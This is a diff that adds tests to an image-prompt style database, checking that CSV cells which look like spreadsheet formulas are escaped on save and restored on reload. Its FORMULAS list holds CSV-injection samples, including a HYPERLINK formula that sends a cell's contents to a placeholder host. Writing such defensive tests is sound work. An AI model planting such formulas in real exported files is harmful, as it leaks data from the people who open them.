@@ -144,3 +144,46 @@ def test_extract_styles_from_prompt_inverts_apply(tmp_path):
     # the negative prompt must match too: the outer style "suffix" is not found, so nothing is
     assert db.extract_styles_from_prompt(prompt, "ugly") == ([], prompt, "ugly")
     assert db.extract_styles_from_prompt("a dog", "") == ([], "a dog", "")
+
+
+# --- spreadsheet formulas (CSV injection) --------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+def test_cells_that_start_like_a_formula_are_written_with_a_quote(tmp_path):
+    path = tmp_path / "styles.csv"
+    db = StyleDatabase([str(path)])
+    db.styles["=evil"] = PromptStyle("=evil", FORMULAS[0], "-lowres", str(path))
+    db.styles["plain"] = PromptStyle("plain", "masterpiece, {prompt}", "blurry, a-b", str(path))
+    db.save_styles()
+    text = path.read_bytes().decode("utf-8-sig")
+    assert '\'=evil,"\'=HYPERLINK(""http://example.invalid/?x=""&A1,""click"")",\'-lowres\r\n' in text
+    assert 'plain,"masterpiece, {prompt}","blurry, a-b"\r\n' in text  # ordinary cells are untouched
+    reread = StyleDatabase([str(path)])
+    assert reread.styles["=evil"] == PromptStyle("=evil", FORMULAS[0], "-lowres", str(path))
+    assert reread.styles["plain"] == db.styles["plain"]
+
+
+def test_every_text_survives_a_round_trip(tmp_path):
+    path = tmp_path / "styles.csv"
+    texts = [*FORMULAS, "'=1", "''=1", "'hello", "'", "''", "'-", "a=b", "", "- dash and space", "'@x"]
+    db = StyleDatabase([str(path)])
+    for i, text in enumerate(texts):
+        db.styles[f"s{i}"] = PromptStyle(f"s{i}", text, text, str(path))
+    db.save_styles()
+    reread = StyleDatabase([str(path)])
+    for i, text in enumerate(texts):
+        assert (reread.styles[f"s{i}"].prompt, reread.styles[f"s{i}"].negative_prompt) == (text, text), repr(text)
+
+
+def test_escape_and_unescape_cells():
+    assert styles.escape_cell("=1") == "'=1" and styles.unescape_cell("'=1") == "=1"
+    assert styles.escape_cell("'=1") == "''=1" and styles.unescape_cell("''=1") == "'=1"
+    assert styles.escape_cell("'quoted") == "'quoted" and styles.unescape_cell("'quoted") == "'quoted"
+    assert styles.escape_cell("1-2") == "1-2"
+
+
+def test_files_written_by_hand_or_by_a1111_read_as_before(tmp_path):
+    path = write(tmp_path / "styles.csv", CSV_HEADER + "minus,-1,'plain\n")
+    assert StyleDatabase([str(path)]).styles["minus"] == PromptStyle("minus", "-1", "'plain", str(path))
